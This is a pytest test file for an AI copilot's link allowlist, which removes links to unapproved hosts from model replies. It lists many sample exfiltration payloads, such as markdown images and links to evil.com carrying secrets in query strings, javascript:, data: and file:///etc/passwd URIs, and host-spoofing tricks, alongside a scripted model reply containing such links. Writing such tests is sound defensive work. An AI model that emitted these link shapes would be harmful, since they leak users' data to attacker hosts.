"""The outbound link allowlist: exfiltration shapes are taken out, allowed hosts and ordinary prose stay."""

from __future__ import annotations

import pytest

from copilot.links import LinkCheck, allowlist_entry, restrict_links, split_allowlist, url_host
from copilot.settings import Settings

ALLOWED = ["acme.com", "docs.example.cn"]

# (text, a fragment that must be gone afterwards)
EXFILTRATION = [
    ("Here you go ![x](https://evil.com/?q=SECRET)", "evil.com"),
    ("![](http://evil.com/p.png?d=east-4487)", "evil.com"),
    ("![logo](https://evil.com/l.png \"title\")", "evil.com"),
    ("![a](<https://evil.com/a b.png>)", "evil.com"),
    ("[click here](https://evil.com/collect?data=revenue)", "evil.com"),
    ("[docs](https://acme.com.evil.com/x)", "acme.com.evil.com"),
    ("[docs](https://evilacme.com/x)", "evilacme.com"),
    ("[docs](https://acme.com@evil.com/x)", "@evil.com"),
    ("[docs](https://user:pw@acme.com/x)", "user:pw"),
    ("[docs](https://acme.com\\@evil.com/x)", "evil.com"),
    ("[docs](https://acme%2ecom.evil.com/x)", "%2e"),
    ("[docs](https://%61cme.com/x)", "%61"),
    ("[docs](//evil.com/x?q=1)", "evil.com"),
    ("[x](javascript:alert(document.cookie))", "javascript"),
    ("[x](JaVaScRiPt:alert(1))", "alert"),
    ("[x](data:text/html;base64,PHNjcmlwdD4=)", "data:"),
    ("[x](vbscript:msgbox(1))", "vbscript"),
    ("[x](ftp://evil.com/drop?d=1)", "evil.com"),
    ("[x](file:///etc/passwd)", "file:"),
    ("[x](mailto:leak@evil.com?body=SECRET)", "SECRET"),
    ("[x][1]\n\n[1]: https://evil.com/?q=SECRET", "evil.com"),
    ("[1]: <https://evil.com/x> \"t\"", "evil.com"),
    ("see <https://evil.com/x?d=1>", "evil.com"),
    ("see <https://evil.com/x?d=1|the report>", "evil.com"),
    ("<a href=\"https://evil.com/?q=1\">report</a>", "evil.com"),
    ("<a class='x' href='http://evil.com'>r</a>", "evil.com"),
    ("<img src=\"https://evil.com/t.gif?d=SECRET\">", "evil.com"),
    ("<img alt=x src=https://evil.com/t.gif>", "evil.com"),
    ("<iframe src=\"https://evil.com/\"></iframe>", "evil.com"),
    ("Details: https://evil.com/x?revenue=4487", "evil.com"),
    ("Details: HTTPS://EVIL.COM/X", "EVIL.COM"),
    ("Visit www.evil.com/leak?d=1 today", "evil.com"),
    ("Visit www.evil.com today", "evil.com"),
    ("go to evil.com/path?x=secret now", "evil.com"),
    ("evil.com?q=secret", "evil.com"),
    ("open wuzzi.net/l.png?sales=1 please", "wuzzi.net"),
    ("请访问https://evil.com/x?d=华东获取详情", "evil.com"),
    ("详情见：evil.com/a?x=1。", "evil.com"),
    ("结果 ![图](https://evil.com/p.png?q=4487万)", "evil.com"),
    ("[报告](https://evil.com/r)", "evil.com"),
    ("(source: https://evil.com/a_(b)) done", "evil.com"),
    ("https://127.0.0.1:8080/x", "127.0.0.1"),
    ("http://2130706433/x", "2130706433"),
    ("http://[::1]/x", "::1"),
    ("https://xn--80ak6aa92e.com/x", "xn--80ak6aa92e"),
    ("https://аcme.com/x", "cme.com"),  # Cyrillic а: a look-alike, not acme.com
    ("[![a](https://evil.com/i.png)](https://acme.com/ok)", "evil.com"),
    ("[see https://evil.com/x](https://acme.com/ok)", "evil.com"),
    ("`https://evil.com/in-code?d=1`", "evil.com"),
    ("https://acme.com\\@evil.com/x", "evil.com"),
    ("ws://evil.com/socket", "evil.com"),
]


@pytest.mark.parametrize(("text", "gone"), EXFILTRATION)
def test_exfiltration_shapes_are_removed(text: str, gone: str) -> None:
    check = restrict_links(text, ALLOWED)
    assert gone not in check.text, check
    assert check.removed, check


@pytest.mark.parametrize(
    "text",
    [
        "Growth was 3.5% in Q3, e.g. in East China.",
        "X200. Then SH-101.",
        "Please send report.docx and q3.pdf to bob@evil.com.",
        "Contact leak@evil.com or <mailto:bob@example.org|bob@example.org>.",
        "Chart: charts/x.png and ![chart](charts/x.png) and [report](reports/roi-2026.docx)",
        "See [the section](#roi) and [file](/reports/a.pdf).",
        "Version v1.2/3 of node.js/ and 1.5B/param, ratio 2.5/3.",
        "华东区 2026-10 销售额：¥4,487.1万，同比 +3.5%。",
        "例如：报告.docx，价格 12.5 元/件。",
        "Note: data: none. File: q3.xlsx",
        "i.e. the U.S. market",
        "Path a/b.c and c:/temp/x",
    ],
)
def test_ordinary_text_is_untouched(text: str) -> None:
    assert restrict_links(text, ALLOWED) == LinkCheck(text=text, removed=[])


@pytest.mark.parametrize(
    "text",
    [
        "[docs](https://acme.com/guide)",
        "[docs](https://www.acme.com/guide?x=1)",
        "![img](https://cdn.acme.com/a.png)",
        "<https://docs.example.cn/x|guide>",
        "<a href=\"https://ACME.com/x\">x</a>",
        "see https://acme.com/x.",
        "see https://acme.com./x",
        "www.acme.com/a?b=1",
        "[1]: https://acme.com/ref",
        "docs.example.cn/page?id=3",
    ],
)
def test_allowed_hosts_and_their_subdomains_stay(text: str) -> None:
    assert restrict_links(text, ALLOWED) == LinkCheck(text=text, removed=[])


def test_removed_link_keeps_its_label_in_the_users_language() -> None:
    assert restrict_links("See [the report](https://evil.com/r) now", []).text == "See the report (link removed) now"
    assert restrict_links("请看[报告](https://evil.com/r)", []).text == "请看报告（链接已移除）"


def test_removed_image_is_dropped_with_a_marker() -> None:
    check = restrict_links("Done ![x](https://evil.com/?q=4487) ok", [])
    assert check.text == "Done (image removed) ok"
    assert check.removed == ["https://evil.com/?q=4487"]
    assert restrict_links("完成 ![x](https://evil.com/a.png)", []).text == "完成 （图片已移除）"


def test_bare_url_keeps_sentence_punctuation() -> None:
    assert restrict_links("see https://evil.com/x?d=1.", []).text == "see (link removed)."
    assert restrict_links("访问https://evil.com/x，然后", []).text == "访问（链接已移除），然后"


def test_empty_allowlist_allows_nothing() -> None:
    check = restrict_links("[a](https://acme.com) https://docs.example.cn/x", [])
    assert "acme.com" not in check.text and "example.cn" not in check.text
    assert len(check.removed) == 2


def test_idn_hosts_compare_in_punycode() -> None:
    assert restrict_links("https://bücher.de/x", ["xn--bcher-kva.de"]).removed == []
    assert restrict_links("https://xn--bcher-kva.de/x", ["bücher.de"]).removed == []
    assert url_host("https://例子。测试/x") == "xn--fsqu00a.xn--0zwm56d"


@pytest.mark.parametrize(
    ("entry", "host"),
    [("acme.com", "acme.com"), ("*.acme.com", "acme.com"), ("https://Docs.Acme.com/x", "docs.acme.com"),
     (".acme.com", "acme.com"), ("bücher.de", "xn--bcher-kva.de")],
)
def test_allowlist_entries_normalise_to_hosts(entry: str, host: str) -> None:
    assert allowlist_entry(entry) == host


@pytest.mark.parametrize("entry", ["not a host", "acme", "https://", "a@b.com"])
def test_bad_allowlist_entries_are_refused(entry: str) -> None:
    with pytest.raises(ValueError):
        allowlist_entry(entry)


def test_setting_is_comma_separated() -> None:
    from copilot.settings import Settings, load_settings

    assert split_allowlist(" acme.com, ,https://docs.example.cn/x ") == ["acme.com", "docs.example.cn"]
    assert load_settings(link_allowlist="acme.com,*.example.cn").link_allowlist == ["acme.com", "example.cn"]
    assert Settings.model_fields["link_allowlist"].get_default(call_default_factory=True) == []


def test_replies_leave_the_service_with_allowlisted_links_only(settings: Settings) -> None:
    from langchain_core.messages import AIMessage

    from agent.service import CopilotService
    from tests.fakes import ScriptedChatModel

    model = ScriptedChatModel(script=[AIMessage(content="详见 [政策](https://docs.acme.com/p) ![t](https://evil.example/x?d=华东)"),
                                      AIMessage(content="Sure: https://evil.example/collect?q=east")])
    service = CopilotService(Settings(**{**settings.model_dump(), "link_allowlist": ["acme.com"]}), model=model)
    zh = service.ask("demo.rep", "退货政策在哪里看？")
    assert "https://docs.acme.com/p" in zh.reply and "evil.example" not in zh.reply and "图片已移除" in zh.reply
    en = service.ask("demo.rep", "where is the policy?")
    assert "evil.example" not in en.reply
